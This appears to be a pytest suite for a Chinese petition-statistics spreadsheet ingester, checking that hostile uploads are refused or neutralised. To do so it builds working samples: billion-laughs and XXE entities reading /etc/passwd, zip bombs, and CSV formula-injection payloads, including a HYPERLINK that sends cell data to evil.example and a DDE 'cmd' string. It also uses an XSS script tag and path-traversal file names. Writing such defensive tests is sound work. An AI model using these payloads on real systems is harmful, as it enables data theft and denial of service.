"""Hostile input (issue 6): each file is refused or neutralized with a Chinese message naming it,
and the rest of its batch still loads — every batch here carries a good file whose values are
asserted. The hostile files are built in code below."""

from __future__ import annotations

import csv
import io
import struct
import zipfile
from datetime import datetime
from pathlib import Path

import duckdb
import openpyxl
import pytest

from jiedao.export import EXPORT_TABLES, read_export
from ingest.loader import ingest_paths
from ingest.readers import UnreadableFile, read_workbook
from jiedao.settings import Settings
from jiedao.spreadsheet_writer import csv_bytes, xlsx_bytes
from jiedao.uploads import RefusedUpload, save_uploads
from sheets import write_csv, write_ods, write_xlsx

建设, 商业, 新华 = "654201001001", "654201001003", "654201001006"
公园, 花园 = "654201002002", "654201002003"
GOOD_ROWS = [
    ["和平街道2025年5月民情诉求统计"],
    ["社区名称", "受理数", "办结数"],
    ["建设街社区", 12, 10],
    ["商业街社区", 8, 7],
]
GOOD_VALUES = [
    ("good.xlsx", "B3", 建设, "petitions_received", "2025-05", 12.0),
    ("good.xlsx", "B4", 商业, "petitions_received", "2025-05", 8.0),
    ("good.xlsx", "C3", 建设, "petitions_resolved", "2025-05", 10.0),
    ("good.xlsx", "C4", 商业, "petitions_resolved", "2025-05", 7.0),
]
BILLION_LAUGHS = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [\n <!ENTITY lol "lol">\n'
                  + b"".join(b' <!ENTITY lol%d "%s">\n' % (level, (b"&lol%s;" % (b"" if level == 1 else b"%d" % (level - 1))) * 10)
                             for level in range(1, 10))
                  + b"]>\n")
EXTERNAL_ENTITY = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


# -- building hostile workbooks ----------------------------------------------------------------
def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {entry.filename: archive.read(entry) for entry in archive.infolist()}


def write_zip(path: Path, parts: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def without_xml_declaration(xml: bytes) -> bytes:
    return xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml


def xlsx_with_part(path: Path, member: str, change) -> Path:
    """A valid workbook (the good rows) with one part rewritten by ``change``."""
    parts = parts_of(write_xlsx(path.with_suffix(".tmp.xlsx"), {"Sheet1": GOOD_ROWS}))
    path.with_suffix(".tmp.xlsx").unlink()
    parts[member] = change(parts[member])
    return write_zip(path, parts)


def patch_declared_size(path: Path, member: str, size: int) -> Path:
    """Overwrite the uncompressed size a zip declares for ``member`` (local and central headers)."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    local = data.find(b"PK\x03\x04")
    while local != -1:
        name_length = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30: local + 30 + name_length] == name:
            struct.pack_into("<I", data, local + 22, size)
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46: central + 46 + name_length] == name:
            struct.pack_into("<I", data, central + 24, size)
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))
    return path


def ratio_of(path: Path, member: str) -> float:
    info = zipfile.ZipFile(path).getinfo(member)
    return info.file_size / info.compress_size


def declared_total(path: Path) -> int:
    return sum(info.file_size for info in zipfile.ZipFile(path).infolist())


def xlsx_with_text_cells(path: Path, rows: list[list[object]]) -> Path:
    """Cells that look like formulas but are stored as text (openpyxl would write them as formulas)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Sheet1"
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if value is not None:
                cell = sheet.cell(row=r, column=c, value=value)
                if isinstance(value, str) and value.startswith("="):
                    cell.data_type = "s"
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


def hostile_inbox(inbox: Path) -> None:
    write_xlsx(inbox / "good.xlsx", {"Sheet1": GOOD_ROWS})
    write_csv(inbox / "oversized.csv", [["社区名称", "受理数"]] + [["建设街社区", 1]] * 5000)
    xlsx_with_part(inbox / "zip_ratio.xlsx", "xl/worksheets/sheet1.xml",
                   lambda xml: xml.replace(b"</worksheet>", b" " * (4 * 1024 * 1024) + b"</worksheet>"))
    patch_declared_size(xlsx_with_part(inbox / "zip_declared.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml),
                        "xl/worksheets/sheet1.xml", 0xFFFFFFFF)
    patch_declared_size(xlsx_with_part(inbox / "zip_lying.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml),
                        "xl/worksheets/sheet1.xml", 100)
    xlsx_with_part(inbox / "billion_laughs.xlsx", "xl/worksheets/sheet1.xml",
                   lambda xml: BILLION_LAUGHS + without_xml_declaration(xml).replace(b"<v>", b"<v>&lol9;", 1))
    xlsx_with_part(inbox / "billion_laughs_utf16.xlsx", "xl/worksheets/sheet1.xml",
                   lambda xml: (BILLION_LAUGHS.replace(b"UTF-8", b"UTF-16") + without_xml_declaration(xml))
                   .decode("utf-8").encode("utf-16"))
    xlsx_with_part(inbox / "xxe.xlsx", "xl/workbook.xml", lambda xml: EXTERNAL_ENTITY + without_xml_declaration(xml))
    ods = write_ods(inbox / "xxe.tmp.ods", {"Sheet1": GOOD_ROWS})
    parts = parts_of(ods)
    ods.unlink()
    parts["content.xml"] = EXTERNAL_ENTITY.replace(b"DOCTYPE", b"doctype") + without_xml_declaration(parts["content.xml"])
    write_zip(inbox / "xxe.ods", parts)
    write_csv(inbox / "和平街道2025年6月.csv", [
        ["和平街道2025年6月"],
        ["社区名称", "受理数", "办结数"],
        ["建设街社区", '=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0"],
        ["商业街社区", "-1+1", "@SUM(A1:A2)"],
        ["<script>alert(1)</script>社区", 5, 4],
        ["新华社区", 9, 8],
    ])
    xlsx_with_text_cells(inbox / "杜别克街道2025年6月.xlsx", [
        ["杜别克街道2025年6月"],
        ["社区名称", "受理数"],
        ["公园社区", "=1+1"],
        ["花园社区", 6],
    ])


# -- the batch ---------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Settings, Path, object]:
    root = tmp_path_factory.mktemp("hostile")
    inbox = root / "inbox"
    hostile_inbox(inbox)
    settings = Settings(home=root / "home", max_file_bytes=60_000)
    return settings, inbox, ingest_paths(settings, [inbox])


def reports_by_name(report: object) -> dict[str, object]:
    return {file_report.file_name: file_report for file_report in report.file_reports}


def test_the_good_file_loads_beside_the_hostile_ones(hostile_batch) -> None:
    settings, _, report = hostile_batch
    assert (report.files_seen, report.files_new, report.files_rejected) == (11, 11, 8)
    with duckdb.connect(str(settings.raw_db), read_only=True) as con:
        assert con.execute(
            "select file_name, cell_ref, community_code, indicator_code, period, value from observations"
            " where file_name = 'good.xlsx' order by indicator_code, cell_ref").fetchall() == GOOD_VALUES


def test_each_hostile_file_is_refused_with_a_message_naming_it(hostile_batch) -> None:
    _, inbox, report = hostile_batch
    reports = reports_by_name(report)
    ratio = ratio_of(inbox / "zip_ratio.xlsx", "xl/worksheets/sheet1.xml")
    refusals = {name: (reports[name].status, reports[name].messages) for name in reports
                if reports[name].status == "rejected"}
    assert refusals == {
        "oversized.csv": ("rejected", (
            f"文件「oversized.csv」：文件大小 {(inbox / 'oversized.csv').stat().st_size} 字节，上限 60000 字节 超过上限，未解析",)),
        "zip_ratio.xlsx": ("rejected", (
            f"文件「zip_ratio.xlsx」：压缩内容声明的解压大小异常（「xl/worksheets/sheet1.xml」压缩比 {ratio:.0f}:1），疑似压缩炸弹，未解析",)),
        "zip_declared.xlsx": ("rejected", (
            f"文件「zip_declared.xlsx」：压缩内容声明的解压大小异常（共 {declared_total(inbox / 'zip_declared.xlsx')} 字节），疑似压缩炸弹，未解析",)),
        "zip_lying.xlsx": ("rejected", (
            "文件「zip_lying.xlsx」：文件已损坏或不完整（压缩结构损坏：Bad CRC-32 for file 'xl/worksheets/sheet1.xml'），未解析",)),
        "billion_laughs.xlsx": ("rejected", (
            "文件「billion_laughs.xlsx」：工作簿内部 XML 含有 DOCTYPE/ENTITY 声明（「xl/worksheets/sheet1.xml」中的 <!DOCTYPE），疑似 XML 炸弹或外部实体攻击，未解析",)),
        "billion_laughs_utf16.xlsx": ("rejected", (
            "文件「billion_laughs_utf16.xlsx」：工作簿内部 XML 含有 DOCTYPE/ENTITY 声明（「xl/worksheets/sheet1.xml」中的 <!DOCTYPE），疑似 XML 炸弹或外部实体攻击，未解析",)),
        "xxe.xlsx": ("rejected", (
            "文件「xxe.xlsx」：工作簿内部 XML 含有 DOCTYPE/ENTITY 声明（「xl/workbook.xml」中的 <!DOCTYPE），疑似 XML 炸弹或外部实体攻击，未解析",)),
        "xxe.ods": ("rejected", (
            "文件「xxe.ods」：工作簿内部 XML 含有 DOCTYPE/ENTITY 声明（「content.xml」中的 <!DOCTYPE），疑似 XML 炸弹或外部实体攻击，未解析",)),
    }


def test_refused_files_are_recorded_with_their_problem_codes(hostile_batch) -> None:
    settings, _, _ = hostile_batch
    with duckdb.connect(str(settings.raw_db), read_only=True) as con:
        assert con.execute(
            "select f.file_name, f.status, f.values_loaded, p.problem_code, p.severity from files f"
            " join problems p using (file_sha256) where f.status = 'rejected' order by 1").fetchall() == [
            ("billion_laughs.xlsx", "rejected", 0, "xml_bomb", "error"),
            ("billion_laughs_utf16.xlsx", "rejected", 0, "xml_bomb", "error"),
            ("oversized.csv", "rejected", 0, "file_too_large", "error"),
            ("xxe.ods", "rejected", 0, "xml_bomb", "error"),
            ("xxe.xlsx", "rejected", 0, "xml_bomb", "error"),
            ("zip_declared.xlsx", "rejected", 0, "zip_bomb", "error"),
            ("zip_lying.xlsx", "rejected", 0, "corrupt_file", "error"),
            ("zip_ratio.xlsx", "rejected", 0, "zip_bomb", "error"),
        ]


FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A2)"]


def test_formula_text_is_kept_as_written_never_evaluated(hostile_batch) -> None:
    settings, _, report = hostile_batch
    sheet = "和平街道2025年6月"
    with duckdb.connect(str(settings.raw_db), read_only=True) as con:
        assert con.execute(
            "select p.file_name, p.cell_ref, p.problem_code, p.raw_text from problems p"
            " where p.problem_code = 'unreadable_value' order by 1, 2").fetchall() == [
            ("和平街道2025年6月.csv", "B3", "unreadable_value", FORMULA_TEXTS[0]),
            ("和平街道2025年6月.csv", "B4", "unreadable_value", "-1+1"),
            ("和平街道2025年6月.csv", "C3", "unreadable_value", FORMULA_TEXTS[1]),
            ("和平街道2025年6月.csv", "C4", "unreadable_value", "@SUM(A1:A2)"),
            ("杜别克街道2025年6月.xlsx", "B3", "unreadable_value", "=1+1"),
        ]
        assert con.execute(
            "select c.cell_ref, c.raw_text, c.role from cells c join files f using (file_sha256)"
            " where f.file_name = ? and c.row_index in (2, 3) and c.col_index > 0 order by 1", [f"{sheet}.csv"]
        ).fetchall() == [("B3", FORMULA_TEXTS[0], "problem"), ("B4", "-1+1", "problem"),
                         ("C3", FORMULA_TEXTS[1], "problem"), ("C4", "@SUM(A1:A2)", "problem")]
        assert con.execute(
            "select file_name, cell_ref, community_code, indicator_code, value from observations"
            " where file_name <> 'good.xlsx' order by 1, 2").fetchall() == [
            ("和平街道2025年6月.csv", "B6", 新华, "petitions_received", 9.0),
            ("和平街道2025年6月.csv", "C6", 新华, "petitions_resolved", 8.0),
            ("杜别克街道2025年6月.xlsx", "B4", 花园, "petitions_received", 6.0),
        ]
    messages = reports_by_name(report)["和平街道2025年6月.csv"].messages
    assert messages[0] == f"文件「{sheet}.csv」工作表「{sheet}」单元格 B3：无法识别的数值「{FORMULA_TEXTS[0]}」"


def test_a_script_in_a_community_name_is_an_unknown_community_kept_verbatim(hostile_batch) -> None:
    settings, _, _ = hostile_batch
    with duckdb.connect(str(settings.raw_db), read_only=True) as con:
        assert con.execute(
            "select cell_ref, problem_code, raw_text, message from problems where problem_code = 'unknown_community'"
        ).fetchall() == [(
            "A5", "unknown_community", "<script>alert(1)</script>社区",
            "文件「和平街道2025年6月.csv」工作表「和平街道2025年6月」单元格 A5：无法匹配的社区「<script>alert(1)</script>社区」，"
            "最接近的登记名称：营盘街社区居委会、新华街社区居委会、文化街社区居委会")]
        # The whole row is rejected with its community: its numbers are problem cells, not values.
        assert con.execute(
            "select cell_ref, raw_text, role from cells where row_index = 4 and sheet = '和平街道2025年6月' order by 1"
        ).fetchall() == [("A5", "<script>alert(1)</script>社区", "problem"), ("B5", "5", "problem"), ("C5", "4", "problem")]


def test_formula_text_is_neutralized_when_problems_are_exported(hostile_batch) -> None:
    settings, _, _ = hostile_batch
    frame = read_export(settings, EXPORT_TABLES["problems"], {})
    frame = frame[frame["problem_code"] == "unreadable_value"]
    expected = ["'" + FORMULA_TEXTS[0], "'-1+1", "'" + FORMULA_TEXTS[1], "'@SUM(A1:A2)", "'=1+1"]
    exported_csv = list(csv.DictReader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert [row["raw_text"] for row in exported_csv] == expected
    assert all(row["message"].startswith("文件「") for row in exported_csv)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame)))
    column = list(frame.columns).index("raw_text") + 1
    cells = [book.active.cell(row=r, column=column) for r in range(2, 2 + len(frame))]
    assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s") for text in expected]


def test_the_readers_refuse_the_bombs_before_any_parser_sees_them(hostile_batch, tmp_path: Path) -> None:
    _, inbox, _ = hostile_batch
    settings = Settings(home=tmp_path / "home")
    codes = {}
    for name in ("zip_ratio.xlsx", "zip_declared.xlsx", "billion_laughs.xlsx", "xxe.xlsx", "xxe.ods"):
        with pytest.raises(UnreadableFile) as caught:
            read_workbook(inbox / name, settings)
        codes[name] = caught.value.problem_code
    assert codes == {"zip_ratio.xlsx": "zip_bomb", "zip_declared.xlsx": "zip_bomb",
                     "billion_laughs.xlsx": "xml_bomb", "xxe.xlsx": "xml_bomb", "xxe.ods": "xml_bomb"}
    # Without the DTD the same workbook reads: the check refuses the declaration, not the data.
    plain = xlsx_with_part(tmp_path / "plain.xlsx", "xl/worksheets/sheet1.xml", without_xml_declaration)
    assert read_workbook(plain, settings).sheets[0].rows[2] == ("建设街社区", "12", "10")


@pytest.mark.parametrize("whole_part_bytes", [4 << 20, 0], ids=["inflated-whole", "streamed-in-chunks"])
def test_a_declaration_split_across_read_chunks_is_found(tmp_path: Path, monkeypatch, whole_part_bytes: int) -> None:
    monkeypatch.setattr("ingest.readers.archive.WHOLE_PART_BYTES", whole_part_bytes)
    padding = b" " * ((1 << 20) - 4)   # "<!DO" ends the first 1 MiB chunk, "CTYPE" starts the next
    path = xlsx_with_part(tmp_path / "split.xlsx", "xl/worksheets/sheet1.xml",
                          lambda xml: padding + BILLION_LAUGHS.split(b"\n", 1)[1] + without_xml_declaration(xml))
    with pytest.raises(UnreadableFile) as caught:
        read_workbook(path, Settings(home=tmp_path / "home", max_zip_ratio=100_000))  # the padding packs well
    assert (caught.value.problem_code, caught.value.detail) == ("xml_bomb", "「xl/worksheets/sheet1.xml」中的 <!DOCTYPE")


@pytest.mark.parametrize("damage", ["crc", "size", "name", "data"])
def test_a_damaged_part_is_refused_the_same_whether_inflated_whole_or_streamed(tmp_path: Path, monkeypatch,
                                                                              damage: str) -> None:
    """Small parts are inflated straight from the file's bytes; a part whose bytes, size, CRC or
    local name disagree with the directory is left to zipfile, so the refusal reads the same."""
    path = xlsx_with_part(tmp_path / "good.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml)
    data = bytearray(path.read_bytes())
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
    local = info.header_offset
    name_length, extra_length = struct.unpack("<HH", data[local + 26:local + 30])
    start = local + 30 + name_length + extra_length
    if damage == "crc":
        data[local + 14:local + 18] = struct.pack("<I", info.CRC ^ 1)
        central = data.find(b"PK\x01\x02")
        while data[central + 46:central + 46 + name_length] != info.filename.encode():
            central = data.find(b"PK\x01\x02", central + 1)
        data[central + 16:central + 20] = struct.pack("<I", info.CRC ^ 1)
    elif damage == "size":
        path = patch_declared_size(path, "xl/worksheets/sheet1.xml", info.file_size - 1)
        data = bytearray(path.read_bytes())
    elif damage == "name":
        data[local + 30] ^= 0x20  # "x" → "X" in the local header only
    else:
        data[start + info.compress_size // 2] ^= 0xFF
    damaged = tmp_path / "damaged.xlsx"
    damaged.write_bytes(bytes(data))
    outcomes = []
    for whole_part_bytes in (4 << 20, 0):
        monkeypatch.setattr("ingest.readers.archive.WHOLE_PART_BYTES", whole_part_bytes)
        try:
            outcomes.append(("read", read_workbook(damaged, Settings(home=tmp_path / "home")).sheets))
        except UnreadableFile as error:
            outcomes.append((error.problem_code, error.detail))
    assert outcomes[0] == outcomes[1]
    assert outcomes[0][0] == "corrupt_file"


def test_a_part_named_like_an_image_is_still_scanned_unless_it_is_one(tmp_path: Path) -> None:
    settings = Settings(home=tmp_path / "home")
    disguised = xlsx_with_part(tmp_path / "disguised.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml)
    parts = parts_of(disguised)
    parts["xl/media/image1.png"] = BILLION_LAUGHS + b"<a>&lol9;</a>"
    with pytest.raises(UnreadableFile) as caught:
        read_workbook(write_zip(tmp_path / "disguised.xlsx", parts), settings)
    assert (caught.value.problem_code, caught.value.detail) == ("xml_bomb", "「xl/media/image1.png」中的 <!DOCTYPE")
    parts["xl/media/image1.png"] = b"\x89PNG\r\n\x1a\n" + b"<!DOCTYPE looks like one but is pixels"
    assert read_workbook(write_zip(tmp_path / "picture.xlsx", parts), settings).sheets[0].rows[2] == (
        "建设街社区", "12", "10")


# -- uploads: hostile names and hostile bytes --------------------------------------------------
def test_hostile_uploads_are_refused_or_renamed_and_the_rest_loads(tmp_path: Path) -> None:
    built = tmp_path / "built"
    hostile_inbox(built)
    good = (built / "good.xlsx").read_bytes()

    def summary(street: str, community: str, value: int) -> bytes:
        return write_csv(built / "s.csv", [[f"{street}2025年7月"], ["社区名称", "受理数"], [community, value]]).read_bytes()

    settings = Settings(home=tmp_path / "home", max_file_bytes=60_000)
    result = save_uploads(settings, [
        ("../../etc/passwd.xlsx", good),
        ("C:\\Windows\\x.csv", summary("和平街道", "新华社区", 21)),
        ("/abs/x.csv", summary("杜别克街道", "公园社区", 22)),
        ("nul\x00byte.csv", summary("杜别克街道", "花园社区", 23)),
        ("zip_ratio.xlsx", (built / "zip_ratio.xlsx").read_bytes()),
        ("../billion_laughs.xlsx", (built / "billion_laughs.xlsx").read_bytes()),
        ("oversized.csv", (built / "oversized.csv").read_bytes()),
    ], now=datetime(2026, 2, 1, 8, 0, 0))
    assert [(saved.original_name, saved.saved_path.relative_to(settings.home).as_posix()) for saved in result.saved] == [
        ("../../etc/passwd.xlsx", "inbox/uploads/20260201-080000-000000/passwd.xlsx"),
        ("C:\\Windows\\x.csv", "inbox/uploads/20260201-080000-000000/x.csv"),
        ("/abs/x.csv", "inbox/uploads/20260201-080000-000000/x(2).csv"),
        ("nul\x00byte.csv", "inbox/uploads/20260201-080000-000000/nulbyte.csv"),
    ]
    ratio = ratio_of(built / "zip_ratio.xlsx", "xl/worksheets/sheet1.xml")
    assert result.refused == (
        RefusedUpload("zip_ratio.xlsx", f"文件「zip_ratio.xlsx」未保存：压缩内容声明的解压大小异常（「xl/worksheets/sheet1.xml」压缩比 {ratio:.0f}:1），疑似压缩炸弹"),
        RefusedUpload("../billion_laughs.xlsx", "文件「../billion_laughs.xlsx」未保存：工作簿内部 XML 含有 DOCTYPE/ENTITY 声明（「xl/worksheets/sheet1.xml」中的 <!DOCTYPE），疑似 XML 炸弹或外部实体攻击"),
        RefusedUpload("oversized.csv", f"文件「oversized.csv」未保存：文件大小 {(built / 'oversized.csv').stat().st_size} 字节，上限 60000 字节 超过上限"),
    )
    report = ingest_paths(settings, [result.folder])
    assert (report.files_new, report.files_rejected, report.problems) == (4, 0, 0)
    with duckdb.connect(str(settings.raw_db), read_only=True) as con:
        assert con.execute(
            "select file_name, community_code, indicator_code, value from observations order by 1, 2, 3").fetchall() == [
            ("nulbyte.csv", 花园, "petitions_received", 23.0),
            ("passwd.xlsx", 建设, "petitions_received", 12.0),
            ("passwd.xlsx", 建设, "petitions_resolved", 10.0),
            ("passwd.xlsx", 商业, "petitions_received", 8.0),
            ("passwd.xlsx", 商业, "petitions_resolved", 7.0),
            ("x(2).csv", 公园, "petitions_received", 22.0),
            ("x.csv", 新华, "petitions_received", 21.0),
        ]
